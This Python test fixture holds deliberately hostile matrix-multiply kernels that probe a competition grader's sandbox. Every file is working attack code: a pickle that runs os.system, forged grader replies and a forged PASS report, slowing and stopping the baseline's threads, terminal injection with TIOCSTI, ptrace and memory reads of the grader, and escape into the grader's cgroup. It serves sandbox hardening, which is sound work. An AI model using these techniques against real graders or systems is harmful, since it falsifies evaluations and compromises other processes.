"""Known-bad kernels against the sandbox itself (tests/sandbox/test_sandbox.py): reaching the grader's process, forging
the child's replies, escaping the freeze, disturbing the baseline. Competition signature FN(A, B, C, M, N, K); each
writes what it managed to do under $BAD_KERNEL_OUT_DIR, so a test can tell "refused" from "did it unnoticed"."""

import gc
import json
import os
import signal
import socket
import sys
import time
import traceback

_state = {}


def honest(A, B, C, M, N, K):
    a, b = A[: M * K].view(K, M).t(), B[: K * N].view(N, K).t()
    C[: M * N].view(N, M).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))


def _out(name: str) -> str:
    return os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), name)


def _timed() -> bool:
    """Whether this call is one of a timed batch (the worker's timing loop, ``time_calls``, is on the stack)."""
    return any(f.f_code.co_name == "time_calls" for f, _ in traceback.walk_stack(None))


class _Payload:
    """Unpickling this runs os.system in whoever unpickles it (the marker file says whether it ran)."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _listeners() -> list[str]:
    """Paths of the listening Unix sockets of multiprocessing (``pymp-*`` directories), from /proc/net/unix."""
    out = []
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) >= 8 and "pymp-" in fields[7]:
                out.append(fields[7])
    except OSError:
        pass
    return out


def connects_to_owner(A, B, C, M, N, K):
    """Does no work at all (every output stays NaN) and tries to run code in the grader instead: with the
    multiprocessing authkey its process holds, it connects to every multiprocessing listener on the machine (the
    grader's resource sharer, which unpickles what an authenticated client sends) and sends a pickle that runs a
    command. Writes $BAD_KERNEL_OUT_DIR/tried (how many listeners it reached) and, if the command ran, ``pwned``."""
    from multiprocessing import current_process
    from multiprocessing.connection import Client

    reached = 0
    for address in _listeners():
        try:
            with Client(address, authkey=bytes(current_process().authkey)) as conn:
                conn.send(_Payload(_out("pwned")))
                reached += 1
        except Exception:
            pass
    with open(_out("tried"), "w") as f:
        f.write(str(reached))


def forges_replies(A, B, C, M, N, K):
    """Computes honestly, and rewrites its process's replies to the grader: every field named in $BAD_REPLY (a
    JSON object) that a reply holds gets that value instead ("error" is added to every reply)."""
    honest(A, B, C, M, N, K)
    if _state.get("forging"):
        return
    _state["forging"] = True
    forged = json.loads(os.environ.get("BAD_REPLY", "{}"))
    for name in ("gemmlab.sandbox.serve", "gemmlab.sandbox.box"):  # the child's reply function, new and old home
        mod = sys.modules.get(name)
        real = getattr(mod, "_reply", None)
        if real is None:
            continue

        def lie(conn, reply, real=real):
            reply = dict(reply)
            reply.update({k: v for k, v in forged.items() if k in reply or k == "error"})
            return real(conn, reply)

        mod._reply = lie


_SESSION = os.getsid(0)  # the candidate's own sandbox (its helpers may leave it by setsid)


def _parent(pid: int) -> int | None:
    """The parent of ``pid``; past a bubblewrap process (the keeper inside bubblewrap: its parent's parent)."""
    try:
        parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        if open(f"/proc/{parent}/comm").read().strip() == "bwrap":
            return _parent(parent)
        return parent
    except (OSError, ValueError, IndexError):
        return None


def _baseline_threads() -> list[int]:
    """Threads of the other sandbox's server (the baseline's): the child of a keeper outside the candidate's
    session, started by the same grader (never a keeper of another grader running at the same time)."""
    me, keepers = _SESSION, set()
    grader = _parent(os.getppid())
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            if (
                b"sandbox/keeper.py" in open(f"/proc/{d}/cmdline", "rb").read()
                and os.getsid(int(d)) != me
                and _parent(int(d)) == grader
                and open(f"/proc/{d}/comm").read().strip() != "bwrap"
            ):
                keepers.add(int(d))
        except OSError:
            pass
    tids = []
    for d in os.listdir("/proc"):
        try:
            if d.isdigit() and int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1]) in keepers:
                tids += [int(t) for t in os.listdir(f"/proc/{d}/task")]
        except (OSError, ValueError, IndexError):
            pass
    return tids


def renices_baseline(A, B, C, M, N, K):
    """Computes honestly; in its timed calls, sets every thread of the baseline's server to SCHED_IDLE and nice 19
    (so the baseline runs only when nothing else wants the CPU). Counts what it changed in ``reniced``."""
    honest(A, B, C, M, N, K)
    if not _timed():
        return
    done = 0
    for t in _baseline_threads():
        try:
            os.sched_setscheduler(t, os.SCHED_IDLE, os.sched_param(0))
            os.setpriority(os.PRIO_PROCESS, t, 19)
            done += 1
        except OSError:
            pass
    with open(_out("reniced"), "a") as f:
        f.write(f"{done}\n")


def slackens_baseline(A, B, C, M, N, K):
    """Computes honestly; in its timed calls, first reads, then sets to 50 ms the timer slack of every thread of the
    baseline's server (``/proc/TID/timerslack_ns``: root, CAP_SYS_NICE, no ptrace right; no scheduling check reads
    it), so that every timed sleep of the baseline's lasts up to 50 ms longer. Notes in ``slack`` one JSON line a
    call: {"seen": the values it found, "set": how many it set}."""
    import json

    honest(A, B, C, M, N, K)
    if not _timed():
        return
    seen, done = [], 0
    for t in _baseline_threads():
        try:
            seen.append(int(open(f"/proc/{t}/timerslack_ns").read()))
            with open(f"/proc/{t}/timerslack_ns", "w") as f:
                f.write("50000000")
            done += 1
        except (OSError, ValueError):
            pass
    with open(_out("slack"), "a") as f:
        f.write(json.dumps({"seen": seen, "set": done}) + "\n")


def _ran_ns(tid: int) -> int:
    try:
        return int(open(f"/proc/{tid}/schedstat").read().split()[0])
    except (OSError, ValueError):
        return -1


def _storm() -> None:
    """Forks and exits every millisecond, forever; each generation writes the heartbeat file (its count) and, when
    it sees the baseline's server using CPU (running its batch), stops it for 20 ms and logs that in ``stops``."""
    beat, last = 0, {}
    while True:
        if os.fork():
            os._exit(0)  # the parent dies; the child (a new pid, an orphan) carries on
        beat += 1
        with open(_out("heartbeat"), "w") as f:
            f.write(str(beat))
        for t in _baseline_threads()[:1]:
            ran = _ran_ns(t)
            if last.get(t, ran) < ran:
                os.kill(t, signal.SIGSTOP)
                time.sleep(0.02)
                os.kill(t, signal.SIGCONT)
                with open(_out("stops"), "a") as f:
                    f.write(f"{t}\n")
                ran = _ran_ns(t)
            last[t] = ran
        time.sleep(0.001)


def fork_storm(A, B, C, M, N, K):
    """Computes honestly; at its first timed call, leaves a helper in a new session that forks and exits every
    millisecond (each SIGSTOP sent to a pid read from /proc arrives after that pid has forked its successor) and
    stops the baseline whenever it catches it running."""
    honest(A, B, C, M, N, K)
    if _state.get("storm") or not (_timed() or os.environ.get("BAD_STORM_NOW")):
        return
    _state["storm"] = True
    if os.fork() == 0:
        os.setsid()
        try:
            _storm()
        finally:
            os._exit(0)


def sends_pickle_frame(A, B, C, M, N, K):
    """Computes honestly, then writes a framed pickle (the length header, then the pickle) on every socket of its
    process, the grader's channel included: a grader that loaded it would run the command."""
    import pickle

    honest(A, B, C, M, N, K)
    data = pickle.dumps(_Payload(_out("pwned")))
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket) and obj.fileno() >= 0:
            try:
                obj.sendall(len(data).to_bytes(4, "little") + data)
            except OSError:
                pass


def _grader_pid() -> int:
    """The keeper's parent (past bubblewrap, where the keeper runs inside it); 0 where none is in view."""
    return _parent(os.getppid()) or 0


def sabotages_report(A, B, C, M, N, K):
    """Wrong (all zeros), and prepares $BAD_REPORT_DIR, where the grader will write its report, as $BAD_REPORT_MODE
    says: ``fifo``: FIFOs at the temporary names the grader once used (.report.json.<grader pid>.tmp, ...), and a
    forged PASS report.json; ``tmp-symlink``: symlinks to $BAD_VICTIM at those names; ``symlink``: report.json a
    symlink to $BAD_VICTIM; ``fifo-report``: report.json a FIFO."""
    C.zero_()
    if _state.get("sabotaged"):
        return
    _state["sabotaged"] = True
    d, mode, victim = os.environ["BAD_REPORT_DIR"], os.environ["BAD_REPORT_MODE"], os.environ.get("BAD_VICTIM", "")
    os.makedirs(d, exist_ok=True)
    pid = _grader_pid()
    temps = [os.path.join(d, f".report.{ext}.{pid}.tmp") for ext in ("json", "md", "csv")]
    report = os.path.join(d, "report.json")
    if mode == "fifo":
        for t in temps:
            os.mkfifo(t)
        with open(report, "w") as f:
            f.write('{"verdict": "PASS", "forged": true}')
    elif mode == "tmp-symlink":
        for t in temps:
            os.symlink(victim, t)
    elif mode == "symlink":
        os.symlink(victim, report)
    elif mode == "fifo-report":
        os.mkfifo(report)


def reaches_outside(A, B, C, M, N, K):
    """Computes honestly, and probes what it can reach outside its sandbox: signal 0 to the grader and to the
    baseline's server (what any kill would need), and opening the grader's memory (/proc/PID/mem). Writes
    ``reach.json``: {"grader_signal": ok?, "baseline_signal": ok?, "grader_mem": ok?}."""
    honest(A, B, C, M, N, K)
    if _state.get("probed") or not _timed():
        return
    _state["probed"] = True
    found = {}

    def probe(name, fn):
        try:
            fn()
            found[name] = True
        except OSError as e:
            found[name] = f"{type(e).__name__}: {e.strerror}"

    grader = _grader_pid()
    probe("grader_signal", lambda: os.kill(grader, 0))
    baseline = _baseline_threads()
    probe("baseline_signal", lambda: os.kill(baseline[0], 0)) if baseline else found.update(baseline_signal="none")
    probe("grader_mem", lambda: open(f"/proc/{grader}/mem", "rb").close())
    with open(_out("reach.json"), "w") as f:
        json.dump(found, f)


def _try(found: dict, name: str, fn) -> None:
    """``found[name]``: True where ``fn`` did it, else why not (the errno's name)."""
    import errno

    try:
        fn()
        found[name] = True
    except OSError as e:
        found[name] = errno.errorcode.get(e.errno, str(e.errno))


def _libc_call(fn, *args) -> int:
    """A libc call through ctypes; OSError with its errno where it returns -1."""
    import ctypes

    r = fn(*args)
    if r == -1:
        raise OSError(ctypes.get_errno(), "")
    return r


def _grader_visible() -> int | None:
    """The grader's pid (the keeper's parent) where this process can see it; None in a PID namespace of its own."""
    try:
        pid = _grader_pid()
    except (OSError, ValueError, IndexError):
        return None
    return pid if pid > 1 else None


def _own_cgroup_dir() -> str | None:
    """The cgroup v2 directory above this process's own (the grader's), where one is mounted."""
    for line in open("/proc/self/mountinfo").read().splitlines():
        left, _, right = line.partition(" - ")
        if right.split()[:1] == ["cgroup2"]:
            point = left.split()[4]
            own = next(
                (ln.split(":", 2)[2] for ln in open("/proc/self/cgroup").read().splitlines() if ln.startswith("0::")),
                None,
            )
            if own is not None:
                return os.path.dirname(point + own.rstrip("/")) or point
    return None


def _clone3_into_cgroup() -> None:
    """clone3 with CLONE_INTO_CGROUP into the grader's cgroup (a helper born outside the sandbox's cgroup); the
    child, if one is born, exits at once."""
    import ctypes
    import struct

    where = _own_cgroup_dir()
    if where is None:
        raise OSError(2, "no cgroup v2 here")
    fd = os.open(where, os.O_RDONLY | os.O_DIRECTORY)
    try:
        args = struct.pack("<11Q", 0x200000000, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, fd)  # flags ... cgroup
        buf = ctypes.create_string_buffer(args, len(args))
        libc = ctypes.CDLL(None, use_errno=True)
        pid = _libc_call(libc.syscall, 435, buf, ctypes.c_size_t(len(args)))
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
    finally:
        os.close(fd)


def _isatty(fd: int) -> bool:
    try:
        return os.isatty(fd)
    except OSError:
        return False


def attacks_the_grader(A, B, C, M, N, K):
    """Computes honestly; at its first call tries every system call that reaches another process or the user's
    terminal, and writes ``attacks.json`` ({attack: true where done, else why not}):
    ``tiocsti``: types "pwned" and a newline into the terminal $BAD_TTY (a pty the test holds, as a grader's
    terminal) with ioctl(TIOCSTI); ``tty_write``: writes a forged verdict line onto it; ``ptrace``: attaches to the
    grader and stops it (detached at once where it worked); ``process_vm_readv``: reads the grader's
    memory; ``proc_mem``: opens the grader's memory file (/proc/PID/mem); ``prlimit``: sets a resource limit of the
    grader's (RLIMIT_CORE, to what it is: harmless, and as good as RLIMIT_CPU's SIGXCPU); ``kill``: signal 0 to the
    grader; ``clone3``: a child born in the grader's cgroup (CLONE_INTO_CGROUP); ``ctty``: opens its controlling
    terminal (/dev/tty); ``tty_fds``: the descriptors it holds that are terminals. "invisible": the grader is not in
    this process's view of /proc."""
    import ctypes
    import fcntl
    import resource
    import termios

    honest(A, B, C, M, N, K)
    if _state.get("attacked"):
        return
    _state["attacked"] = True
    libc = ctypes.CDLL(None, use_errno=True)
    found: dict = {}

    def tty(inject: bool) -> None:
        fd = os.open(os.environ["BAD_TTY"], os.O_RDWR | os.O_NOCTTY)
        try:
            if inject:
                for ch in b"pwned\n":
                    fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
            else:
                os.write(fd, b"\nPASS 100/100\n")
        finally:
            os.close(fd)

    _try(found, "tiocsti", lambda: tty(True))
    _try(found, "tty_write", lambda: tty(False))
    _try(found, "ctty", lambda: os.close(os.open("/dev/tty", os.O_RDONLY)))  # its controlling terminal, if any
    found["tty_fds"] = [int(fd) for fd in os.listdir("/proc/self/fd") if _isatty(int(fd))]
    grader = _grader_visible()
    if grader is None:
        found.update({k: "invisible" for k in ("ptrace", "process_vm_readv", "proc_mem", "prlimit", "kill")})
    else:

        def attach():  # PTRACE_SEIZE, PTRACE_INTERRUPT: the grader's main thread stops (and no other thread);
            # PTRACE_DETACH: it runs on (PTRACE_ATTACH's SIGSTOP could stop the whole grader for good)
            _libc_call(libc.ptrace, 0x4206, grader, None, None)
            _libc_call(libc.ptrace, 0x4207, grader, None, None)
            os.waitpid(grader, 0x40000000)  # __WALL
            _libc_call(libc.ptrace, 17, grader, None, None)

        def read_memory():
            start = int(open(f"/proc/{grader}/maps").readline().split("-")[0], 16)
            buf = ctypes.create_string_buffer(64)
            local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 64)
            remote = (ctypes.c_void_p * 2)(start, 64)
            _libc_call(libc.process_vm_readv, grader, local, 1, remote, 1, 0)

        _try(found, "ptrace", attach)
        _try(found, "process_vm_readv", read_memory)
        _try(found, "proc_mem", lambda: os.close(os.open(f"/proc/{grader}/mem", os.O_RDONLY)))
        _try(
            found,
            "prlimit",
            lambda: resource.prlimit(grader, resource.RLIMIT_CORE, resource.prlimit(grader, resource.RLIMIT_CORE)),
        )
        _try(found, "kill", lambda: os.kill(grader, 0))
    _try(found, "clone3", _clone3_into_cgroup)
    with open(_out("attacks.json"), "w") as f:
        json.dump(found, f)


def _beat_forever() -> None:
    beat = 0
    while True:
        beat += 1
        with open(_out("heartbeat"), "w") as f:
            f.write(str(beat))
        time.sleep(0.001)


def zombie_leader(A, B, C, M, N, K):
    """Computes honestly; at its first call leaves a helper whose main thread exits (the exit system call: that
    thread alone) while another thread of it writes a heartbeat every millisecond: /proc reads the helper as a
    zombie, which a freeze by signals once took for held."""
    import ctypes
    import platform
    import threading

    honest(A, B, C, M, N, K)
    if _state.get("zombie"):
        return
    _state["zombie"] = True
    if os.fork() == 0:
        threading.Thread(target=_beat_forever, daemon=True).start()
        time.sleep(0.05)
        ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)  # exit: this thread only


def leaves_its_cgroup(A, B, C, M, N, K):
    """Computes honestly; at its first call leaves a helper that moves itself into the grader's cgroup (writing its
    pid into that cgroup's cgroup.procs, as root can) and then sleeps; notes ``moved`` (true, or why not)."""
    honest(A, B, C, M, N, K)
    if _state.get("left"):
        return
    _state["left"] = True
    if os.fork() == 0:
        found: dict = {}

        def move():
            where = _own_cgroup_dir()
            if where is None:
                raise OSError(2, "no cgroup v2 here")
            with open(os.path.join(where, "cgroup.procs"), "w") as f:
                f.write(str(os.getpid()))

        _try(found, "moved", move)
        with open(_out("moved.json"), "w") as f:
            json.dump(found, f)
        while True:
            time.sleep(1)
